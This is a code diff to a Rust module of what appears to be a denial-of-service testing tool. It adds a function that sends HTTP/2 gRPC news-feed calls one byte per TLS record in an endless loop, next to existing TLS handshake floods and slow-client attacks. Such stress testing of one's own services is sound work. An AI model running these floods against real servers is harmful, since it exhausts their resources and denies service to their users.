@@ -1,7 +1,8 @@
-//! Floods of TLS handshakes. The first message of a client is made once and sent again and again: so it
-//! costs the attacker nothing, and the server a key agreement and a signature each time.
+//! Floods of TLS handshakes, and of records of one byte. The first message of a client is made once and
+//! sent again and again: so it costs the attacker nothing, and the server a key agreement and a signature
+//! each time.
 
-use std::io;
+use std::io::{self, Write as _};
 use std::sync::{Arc, LazyLock};
 use std::time::Duration;
 
@@ -14,7 +15,12 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
 use tokio::time::sleep;
 use tokio_rustls::TlsConnector;
+use whimbrel::api::v1::NewsFeedRequest;
 
+use crate::floods::NEWS_FEED;
+use crate::raw::{
+    DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, call_headers, frame, grpc_frame,
+};
 use crate::target::Attacked;
 
 /// Between two bytes of a slow client.
@@ -80,6 +86,33 @@ pub(crate) async fn whole(to: Attacked) -> io::Result<()> {
         SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
         let _connected = TlsConnector::from(Arc::clone(&CONFIG)).connect(name(), socket).await?;
     }
+}
+
+/// Calls of which each byte has a record of its own: the server decrypts 23 bytes for one.
+pub(crate) async fn records_of_one_byte(to: Attacked) -> io::Result<()> {
+    let socket = TcpStream::connect(to.address).await?;
+    socket.set_nodelay(true)?;
+    let tls = TlsConnector::from(Arc::clone(&CONFIG)).connect(name(), socket).await?;
+    let (socket, mut client) = tls.into_inner();
+    let (mut answers, mut socket) = socket.into_split();
+    let sends = async {
+        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
+        for stream in (1_u32..).step_by(2) {
+            bytes.extend(frame(HEADERS, END_HEADERS, stream, &call_headers(NEWS_FEED)));
+            bytes.extend(frame(DATA, END_STREAM, stream, &grpc_frame(&NewsFeedRequest::default())));
+            let mut records = Vec::new();
+            for byte in bytes.drain(..) {
+                client.writer().write_all(&[byte])?;
+                client.write_tls(&mut records)?;
+            }
+            socket.write_all(&records).await?;
+        }
+        Ok(())
+    };
+    // Answers are taken, and not looked at.
+    let mut nowhere = tokio::io::sink();
+    let takes = async { tokio::io::copy(&mut answers, &mut nowhere).await.map(drop) };
+    tokio::select! { ended = sends => ended, ended = takes => ended }
 }
 
 fn name() -> ServerName<'static> {
